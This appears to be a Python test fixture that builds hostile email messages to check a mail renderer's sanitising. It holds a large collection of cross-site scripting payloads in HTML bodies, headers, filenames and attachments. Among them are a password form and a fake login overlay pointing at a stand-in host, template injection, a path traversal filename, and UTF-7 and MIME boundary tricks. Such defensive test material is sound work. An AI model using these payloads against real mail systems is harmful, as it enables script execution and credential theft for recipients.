"""Mail with something active in every place where a mail has room for it. Each calls RUN if it ever runs."""
import base64

RUN = "top.ran.push(1);alert(1)"
EVIL = "https://evil.example"
SCRIPT = f"<script>{RUN}</script>"
IMAGE = f"<img src=x onerror=\"{RUN}\">"

HTML = {
    "script": SCRIPT, "script_from_elsewhere": f"<script src={EVIL}/x.js></script>", "script_split": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "onerror": IMAGE, "onerror_odd": f"<img/src=x/onerror={RUN}>", "onload_body": f"<body onload=\"{RUN}\">x</body>",
    "svg_onload": f"<svg onload=\"{RUN}\">{SCRIPT}</svg>", "svg_link": f"<svg><a xlink:href=\"javascript:{RUN}\"><text y=20>x</text></a></svg>",
    "svg_animate": f"<svg><animate onbegin=\"{RUN}\" attributeName=x dur=1s></svg>", "svg_use": "<svg><use href=\"data:image/svg+xml,<svg id=x/>#x\"/></svg>",
    "math": f"<math><mtext><table><mglyph><style>{IMAGE}</style></mglyph></table></mtext></math>", "iframe": f"<iframe src={EVIL}></iframe>",
    "iframe_srcdoc": f"<iframe srcdoc=\"{SCRIPT.replace(chr(34), '&quot;')}\"></iframe>", "iframe_javascript": f"<iframe src=\"javascript:{RUN}\"></iframe>",
    "object": f"<object data=\"data:text/html,{SCRIPT}\"></object>", "embed": f"<embed src=\"{EVIL}/x.swf\">", "base": f"<base href=\"{EVIL}/\"><a href=x>x</a>",
    "refresh": f"<meta http-equiv=refresh content=\"0;url={EVIL}\">", "refresh_javascript": f"<meta http-equiv=refresh content=\"0;url=javascript:{RUN}\">",
    "policy": "<meta http-equiv=Content-Security-Policy content=\"script-src *\">" + SCRIPT, "link_sheet": f"<link rel=stylesheet href={EVIL}/x.css>",
    "link_prefetch": f"<link rel=prefetch href={EVIL}/p><link rel=dns-prefetch href=//evil.example>", "style_import": f"<style>@import '{EVIL}/x.css';</style>",
    "style_url": f"<p style=\"background:url({EVIL}/b.gif)\">x</p>", "style_font": f"<style>@font-face{{font-family:f;src:url({EVIL}/f)}} p{{font-family:f}}</style><p>x</p>",
    "style_over_the_page": "<div style=\"position:fixed;inset:0;z-index:99999;background:red\">log in here</div>", "image": f"<img src={EVIL}/pixel.gif>",
    "image_set": f"<img srcset=\"{EVIL}/p.gif 1x\">", "picture": f"<picture><source srcset={EVIL}/p><img></picture>",
    "video": f"<video src={EVIL}/v poster={EVIL}/p autoplay onerror=\"{RUN}\"></video>", "audio": f"<audio src={EVIL}/a autoplay onerror=\"{RUN}\"></audio>",
    "form": f"<form action={EVIL}><input name=p type=password autofocus onfocus=\"{RUN}\"><button>Go</button></form>",
    "details": f"<details open ontoggle=\"{RUN}\">x</details>", "marquee": f"<marquee onstart=\"{RUN}\">x</marquee>", "template": f"<template>{SCRIPT}</template>",
    "noscript": f"<noscript><p title=\"</noscript>{IMAGE}\"></noscript>", "comment": f"<!--><img src=x onerror={RUN}>-->", "title": f"<title>{IMAGE}</title>",
    "textarea": f"<textarea>{'</textarea>' + IMAGE}", "link_javascript": f"<a href=\"javascript:{RUN}\">click</a>",
    "link_tab": f"<a href=\"java\tscript:{RUN}\">click</a>", "link_data": f"<a href=\"data:text/html,{SCRIPT}\">click</a>", "dialog": f"<dialog open>{IMAGE}</dialog>",
    "opener": f"<a href={EVIL} target=_top>out</a><a href={EVIL} target=opener>out</a>", "portal": f"<portal src={EVIL}></portal><frameset><frame src={EVIL}></frameset>",
    "custom_element": f"<x-a onclick=\"{RUN}\" style=\"animation:a\" onanimationstart=\"{RUN}\">x</x-a><style>@keyframes a{{}}</style>",
    "unclosed": f"<p title=\"<!--\"><img src='x' onerror='{RUN}' a=\"", "null": f"<scr\0ipt>{RUN}</scr\0ipt><img src=x on\0error={RUN}>",
}
HEADERS = {
    "subject": f"Subject: {IMAGE}{SCRIPT}", "subject_breaks_out": f"Subject: \"><svg/onload={RUN}>'\"--></title>{SCRIPT}",
    "subject_encoded": "Subject: =?utf-8?B?" + base64.b64encode(f"{IMAGE}\u202e\u0000{SCRIPT}".encode()).decode() + "?=",
    "subject_template": "Subject: {{constructor.constructor('top.ran.push(1)')()}} ${top.ran.push(1)} {@html '" + IMAGE + "'}",
    "subject_link": f"Subject: javascript:{RUN}", "from_name": f"From: \"{SCRIPT.replace(chr(34), '')}\" <a@example.test>",
    "from_encoded": "From: =?utf-8?B?" + base64.b64encode(IMAGE.encode()).decode() + "?= <a@example.test>", "from_address": f"From: <\"{SCRIPT}\"@example.test>",
    "to_name": f"To: {SCRIPT} <karin@supplier.example>", "cc": f"Cc: \"{IMAGE.replace(chr(34), '')}\" <x@y.example>", "reply_to": f"Reply-To: javascript:{RUN}",
    "date": f"Date: {SCRIPT}", "message_id": f"Message-ID: <{SCRIPT}@x>", "list_unsubscribe": f"List-Unsubscribe: <javascript:{RUN}>",
    "field_name": f"X-{'a' * 30}<img>: {SCRIPT}", "face": f"X-Face-URL: {EVIL}/face.gif", "sheet": f"Link: <{EVIL}/x.css>; rel=stylesheet",
    "refresh_field": f"Refresh: 0;url={EVIL}",
}
NAMES = {"name_html": "<img src=x onerror=top.ran.push(1)>.html", "name_path": "../../../etc/passwd", "name_quote": "a\\\"; x=.svg", "name_link": "javascript:top.ran.push(1)"}
KINDS = {
    "svg": ("image/svg+xml", f"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{RUN}\">{SCRIPT}</svg>"), "xhtml": ("application/xhtml+xml", f"<html xmlns=\"http://www.w3.org/1999/xhtml\">{SCRIPT}</html>"),
    "xml_sheet": ("text/xml", f"<?xml-stylesheet href=\"javascript:{RUN}\"?><x/>"), "javascript": ("text/javascript", RUN), "calendar": ("text/calendar", f"BEGIN:VCALENDAR\nSUMMARY:{SCRIPT}\nEND:VCALENDAR"),
    "mail_in_mail": ("message/rfc822", f"Subject: {SCRIPT}\r\nContent-Type: text/html\r\n\r\n{SCRIPT}"), "css": ("text/css", f"@import '{EVIL}'"), "pdf": ("application/pdf", "%PDF-1.4 /JS (app.alert(1))"),
    "html_as_picture": ("image/gif", SCRIPT), "text": ("text/plain", f"{SCRIPT}{IMAGE} javascript:{RUN} {EVIL}/<script>"), "unknown": (f"text/{'x' * 20}", SCRIPT),
}
FIRST = {"Subject": "hostile", "From": "a@example.test", "To": "karin@supplier.example", "Date": "Sun, 22 Nov 2026 10:00:00 +0000"}


def assemble(kind, body, extra="", name="plain"):
    """Header fields of FIRST, of which `extra` replaces the one of its name."""
    fields = {**FIRST, "Subject": f"hostile {name}"}
    lines = [f"{k}: {v}" for k, v in fields.items() if not extra.startswith(f"{k}:")] + ([extra] if extra else [])
    head = "\r\n".join([*lines, "MIME-Version: 1.0", *kind])
    return head.encode("utf-8", "surrogateescape") + b"\r\n\r\n" + body + b"\r\n"


def in_base64(text):
    octets = base64.encodebytes(text.encode()).replace(b"\n", b"\r\n")
    return octets.rstrip()


def attached(kind, text, name):
    return (f"--b\r\nContent-Type: text/plain\r\n\r\nsee below\r\n--b\r\nContent-Type: {kind}\r\nContent-Transfer-Encoding: base64\r\n"
            f"Content-Disposition: attachment; filename=\"{name}\"\r\n\r\n").encode() + in_base64(text) + b"\r\n--b--"


def make_all():
    """(name, message) of each."""
    mixed = ["Content-Type: multipart/mixed; boundary=b"]
    html = ["Content-Type: text/html; charset=utf-8", "Content-Transfer-Encoding: base64"]
    plain = ["Content-Type: text/plain; charset=utf-8"]
    yield from ((f"html_{n}", assemble(html, in_base64(f"<p>hello</p>{text}"), name=n)) for n, text in HTML.items())
    yield from ((f"header_{n}", assemble(plain, b"hello", line, n)) for n, line in HEADERS.items())
    yield from ((f"attachment_{n}", assemble(mixed, attached("text/html", SCRIPT, text), name=n)) for n, text in NAMES.items())
    yield from ((f"kind_{n}", assemble(mixed, attached(kind, text, f"{n}.bin"), name=n)) for n, (kind, text) in KINDS.items())
    yield from ((f"inline_{n}", assemble([f"Content-Type: {kind}", "Content-Transfer-Encoding: base64"], in_base64(text), name=n)) for n, (kind, text) in KINDS.items()
                if n != "mail_in_mail")
    yield "charset", assemble(["Content-Type: text/html; charset=utf-7"], b"+ADw-script+AD4-top.ran.push(1)+ADw-/script+AD4-", name="charset")
    yield "boundary", assemble(["Content-Type: multipart/mixed; boundary=\"<script>\""], f"--<script>\r\nContent-Type: text/html\r\n\r\n{SCRIPT}\r\n--<script>--".encode(), name="boundary")
